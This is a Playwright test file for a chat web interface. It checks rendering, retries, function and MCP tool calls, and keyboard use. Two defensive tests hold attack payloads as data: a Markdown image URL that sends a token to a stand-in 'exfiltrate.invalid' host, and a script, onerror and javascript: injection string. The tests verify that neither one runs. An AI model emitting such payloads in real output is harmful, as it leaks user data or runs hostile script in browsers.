import { expect, fakeRequests, test, ToolsPanelPage, uniqueToken } from "./support";

test.describe("the chat", () => {
  test("streams a Markdown answer, keeps the conversation across turns, and starts over", async ({ chat, page, request }) => {
    await expect(page.getByRole("heading", { name: /how can I help/i })).toBeVisible();
    const token = uniqueToken();
    // The fake model echoes the message, so this Markdown comes back as the answer.
    await chat.say(
      `${token} Here is **bold text**, a list and a table:\n\n- first\n- second\n\n| name | value |\n|---|---|\n| pi | 3.14 |\n\n\`\`\`python\nprint("hi")\n\`\`\`\n\nand math \\( a^2 + b^2 \\)`,
    );
    const answer = chat.lastAnswer();
    await expect(answer.locator("strong", { hasText: "bold text" })).toBeVisible();
    await expect(answer.getByRole("listitem").filter({ hasText: "second" })).toBeVisible();
    await expect(answer.getByRole("cell", { name: "3.14" })).toBeVisible();
    await expect(answer.getByRole("button", { name: "Copy code" })).toBeVisible();
    await expect(answer.locator(".hljs-built_in, .hljs-string").first()).toBeVisible();
    await expect(answer.locator(".katex")).toBeVisible();
    await chat.waitUntilIdle();

    await chat.say(`${token} second question`);
    await expect(chat.answers).toHaveCount(2);
    await chat.waitUntilIdle();
    const requests = await fakeRequests(request, token);
    expect(requests).toHaveLength(2);
    // The second turn sends the first question, the first answer, and the new question.
    const input = requests[1]?.input ?? [];
    expect(input.map((item) => item.type ?? item.role)).toEqual(["user", "message", "user"]);

    await chat.newChat.click();
    await expect(chat.answers).toHaveCount(0);
    await expect(page.getByRole("heading", { name: /how can I help/i })).toBeVisible();
  });

  test("a remote image in an answer is a link the browser never fetches", async ({ chat, page }) => {
    const remote: string[] = [];
    page.on("request", (request) => {
      if (request.url().includes("exfiltrate.invalid")) remote.push(request.url());
    });
    const token = uniqueToken();
    await chat.say(`${token} ![chart](http://exfiltrate.invalid/p.png?d=${token})`);
    const answer = chat.lastAnswer();
    await expect(answer.getByRole("link", { name: "Image: chart" })).toBeVisible();
    await expect(answer.locator("img")).toHaveCount(0);
    await chat.waitUntilIdle();
    expect(remote).toEqual([]);
  });

  test("the page forbids remote images and framing by other sites", async ({ page }) => {
    const response = await page.goto("/");
    const policy = response?.headers()["content-security-policy"] ?? "";
    expect(policy).toContain("img-src 'self' data: blob:");
    expect(policy).toContain("frame-ancestors 'none'");
  });

  test("Shift+Enter makes a new line and Enter sends", async ({ chat, page }) => {
    const token = uniqueToken();
    await chat.message.fill(`${token} line one`);
    await chat.message.press("Shift+Enter");
    await chat.message.pressSequentially("line two");
    await expect(chat.message).toHaveValue(`${token} line one\nline two`);
    await chat.message.press("Enter");
    await expect(page.getByText("line two").first()).toBeVisible();
    await expect(chat.lastAnswer()).toContainText("line two");
  });

  test("Stop ends the turn and keeps the partial answer", async ({ chat }) => {
    const token = uniqueToken();
    await chat.say(`${token} [[synthetic:400:40]]`);
    await expect(chat.message).toBeDisabled();
    const answer = chat.lastAnswer();
    await expect(answer).not.toBeEmpty();
    await expect.poll(async () => (await answer.innerText()).length).toBeGreaterThan(10);
    await chat.stop.click();
    await expect(chat.send).toBeVisible();
    await expect(chat.page.getByText("Stopped. The answer so far is kept.")).toBeVisible();
    const kept = await answer.innerText();
    expect(kept.length).toBeGreaterThan(0);
    await chat.page.waitForTimeout(500);
    expect(await answer.innerText()).toBe(kept);
    await expect(chat.message).toBeEditable();
  });

  test("a refused turn is explained in words, and Retry sends it again", async ({ chat, request }) => {
    const token = uniqueToken();
    await chat.say(`${token} [[error:429]]`);
    await expect(chat.alert).toContainText(/quota|rate|too many/i);
    await chat.retry.click();
    await expect(chat.alert).toHaveCount(1);
    await expect.poll(async () => (await fakeRequests(request, token)).length).toBe(2);
  });

  test("a turn lost on the way is retried successfully", async ({ chat, page }) => {
    const token = uniqueToken();
    let failures = 0;
    await page.route("**/api/conversations/*/turns", async (route) => {
      // The CORS preflight of the cross-origin mode goes through untouched.
      if (route.request().method() !== "POST") return route.continue();
      if (failures++ === 0) return route.abort("connectionreset");
      return route.continue();
    });
    await chat.say(`${token} hello again`);
    await expect(chat.alert).toContainText("Could not reach the server");
    await chat.retry.click();
    await expect(chat.lastAnswer()).toContainText("hello again");
    await expect(chat.alert).toHaveCount(0);
  });

  test("a connection dropped mid-answer keeps the partial text and offers Retry", async ({ chat }) => {
    const token = uniqueToken();
    await chat.say(`${token} [[drop:3]] some words that will be cut`);
    await expect(chat.alert).toBeVisible();
    await expect(chat.retry).toBeVisible();
    await expect(chat.answers).toHaveCount(1);
  });

  test("an injection attempt in the answer stays text", async ({ chat, page }) => {
    const token = uniqueToken();
    const attack = `${token} <script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2"> <a href="javascript:window.__pwned=3">click</a>`;
    await chat.say(attack);
    const answer = chat.lastAnswer();
    await expect(answer).toContainText("<script>window.__pwned = 1</script>");
    await expect(answer).toContainText('<img src="x" onerror="window.__pwned = 2">');
    await chat.waitUntilIdle();
    await expect(answer.locator("script, img")).toHaveCount(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  });
});

test.describe("tool activity", () => {
  test("a function call runs on the server and the answer continues by itself", async ({ chat, request }) => {
    const token = uniqueToken();
    await chat.say(`${token} [[function:get_joke:{}]]`);
    const call = chat.conversation.getByRole("region", { name: "Function call get_joke" });
    await expect(call).toBeVisible();
    await expect(call).toContainText("Done");
    await expect(call).toContainText("Output");
    await expect(chat.lastAnswer()).toContainText('The function returned: {"joke":');
    await chat.waitUntilIdle();
    const requests = await fakeRequests(request, token);
    expect(requests).toHaveLength(2);
    const last = requests[1]?.input.at(-1);
    expect(last).toMatchObject({ type: "function_call_output" });
    expect(requests[1]?.input.map((i) => i.type ?? i.role)).toEqual(["user", "function_call", "function_call_output"]);
  });

  test("get_weather runs with the model's arguments and reports the temperature", async ({ chat, request }) => {
    const token = uniqueToken();
    await chat.say(`${token} [[function:get_weather:{"location":"Paris","unit":"celsius"}]]`);
    const call = chat.conversation.getByRole("region", { name: "Function call get_weather" });
    await expect(call).toContainText("Paris");
    await expect(call).toContainText("celsius");
    await expect(call).toContainText('"temperature": 21.5');
    // The server runs the function now, and writes its output as Python's json does.
    await expect(chat.lastAnswer()).toContainText('The function returned: {"temperature": 21.5}');
    const requests = await fakeRequests(request, token);
    expect(requests[1]?.input.at(-1)).toMatchObject({ type: "function_call_output", output: '{"temperature": 21.5}' });
  });

  test("code interpreter shows its code and previews the image it made", async ({ chat }) => {
    // The container the answer names becomes this browser's: only it may download the files.
    await new ToolsPanelPage(chat.page).turnOn("Code interpreter");
    const token = uniqueToken();
    await chat.say(`${token} [[fixture:code_interpreter]]`);
    const calls = chat.conversation.getByRole("region", { name: "Code interpreter" });
    await expect(calls).toHaveCount(2);
    await expect(calls.nth(1)).toContainText("import matplotlib.pyplot as plt");
    const image = calls.nth(1).getByRole("img", { name: /Image made by the code interpreter/ });
    await expect(image).toHaveAttribute(
      "src",
      /\/api\/container_files\/content\?file_id=cfile_68d5f31200208191afd3130709930804&container_id=cntr_/,
    );
    await expect(calls.nth(1).getByRole("link", { name: /Download cfile_.*\.png/ })).toBeVisible();
    // The preview really loads through the backend.
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBeGreaterThan(0);
  });

  test("an MCP approval request is approved and the turn continues", async ({ chat, request }) => {
    const token = uniqueToken();
    await chat.say(`${token} [[fixture:mcp_approval_request]]`);
    const tools = chat.conversation.getByRole("region", { name: "Tools of zip1" });
    await expect(tools).toContainText("offers 4 tools");
    await tools.getByText(/offers 4 tools/).click();
    await expect(tools.getByText("create_short_url")).toBeVisible();

    const approval = chat.conversation.getByRole("region", { name: "Approval request for create_short_url" });
    await expect(approval).toContainText("https://ai-sdk.dev/");
    await approval.getByRole("button", { name: "Approve" }).click();
    await expect(chat.lastAnswer()).toContainText("MCP tool call approved.");
    await expect(approval).toContainText("You approved this call.");
    const requests = await fakeRequests(request, token);
    expect(requests[1]?.input.at(-1)).toEqual({
      type: "mcp_approval_response",
      approval_request_id: "mcpr_04a97b4fce127879006949a83ac9308195a7f7b69ea82e91fe",
      approve: true,
    });
  });

  test("declining an MCP call says so", async ({ chat }) => {
    const token = uniqueToken();
    await chat.say(`${token} [[fixture:mcp_approval_request]]`);
    await chat.conversation.getByRole("button", { name: "Decline" }).click();
    await expect(chat.lastAnswer()).toContainText("MCP tool call declined.");
  });

  test("web search shows its progress and the cited sources", async ({ chat }) => {
    await chat.say(`${uniqueToken()} [[fixture:web_search]]`);
    const searches = chat.conversation.getByRole("region", { name: "Web search" });
    await expect(searches).toHaveCount(2);
    await expect(searches.first()).toContainText("Done");
    await expect(chat.lastAnswer().getByRole("link", { name: /Britannica/ })).toHaveAttribute(
      "href",
      /britannica\.com\/place\/Mount-Columbia/,
    );
  });

  test("file search names the cited file", async ({ chat }) => {
    await chat.say(`${uniqueToken()} [[fixture:file_search]]`);
    await expect(chat.conversation.getByRole("region", { name: "File search" })).toContainText("Travis favorite food");
    await expect(chat.lastAnswer().getByRole("list", { name: "Cited files" })).toContainText("test_favorite_foods.txt");
  });

  test("an error in the middle of the stream is shown in words", async ({ chat }) => {
    await chat.say(`${uniqueToken()} [[fixture:error_midstream_failed]]`);
    await expect(chat.alert).toContainText("You exceeded your current quota");
    await expect(chat.alert).toHaveCount(1);
  });
});

test.describe("comfort", () => {
  test("a loading indicator shows until the first token", async ({ chat }) => {
    await chat.say(`${uniqueToken()} [[slow:1500]] late answer`);
    const waiting = chat.conversation.getByRole("status", { name: "Waiting for the answer" });
    await expect(waiting).toBeVisible();
    await expect(chat.lastAnswer()).toContainText("late answer");
    await expect(waiting).toHaveCount(0);
  });

  test("scrolling follows the stream unless the reader scrolled up", async ({ chat, page }) => {
    await page.setViewportSize({ width: 800, height: 420 });
    await chat.say(`${uniqueToken()} [[synthetic:2000:15]]`);
    const log = chat.conversation;
    const gap = () => log.evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
    const height = () => log.evaluate((el) => el.scrollHeight);
    await expect.poll(() => log.evaluate((el) => el.scrollHeight > el.clientHeight + 200)).toBe(true);
    expect(await gap()).toBeLessThan(48);

    await log.hover();
    await page.mouse.wheel(0, -400);
    await expect.poll(gap).toBeGreaterThan(100);
    const top = await log.evaluate((el) => el.scrollTop);
    const before = await height();
    // The answer keeps growing below while the view stays where the reader put it.
    await expect.poll(height).toBeGreaterThan(before + 50);
    expect(await log.evaluate((el) => el.scrollTop)).toBe(top);

    // "Latest" brings the view back down, and it follows the stream again.
    await page.getByRole("button", { name: "Latest" }).click();
    await expect.poll(gap).toBeLessThan(48);
    await expect(page.getByRole("button", { name: "Latest" })).toHaveCount(0);
    await chat.stop.click();
  });

  test("works with the keyboard alone", async ({ chat, page }) => {
    const token = uniqueToken();
    await chat.message.focus();
    await page.keyboard.type(`${token} typed by keyboard`);
    await page.keyboard.press("Enter");
    await expect(chat.lastAnswer()).toContainText("typed by keyboard");
    await chat.waitUntilIdle();
    await expect(chat.message).toBeFocused();

    // The switches take the focus and flip with Space.
    const toggle = page.getByRole("switch", { name: "Code interpreter" });
    await toggle.focus();
    await page.keyboard.press("Space");
    await expect(toggle).toHaveAttribute("aria-checked", "true");
    await page.keyboard.press("Space");
    await expect(toggle).toHaveAttribute("aria-checked", "false");

    await chat.newChat.focus();
    await page.keyboard.press("Enter");
    await expect(chat.answers).toHaveCount(0);
  });
});
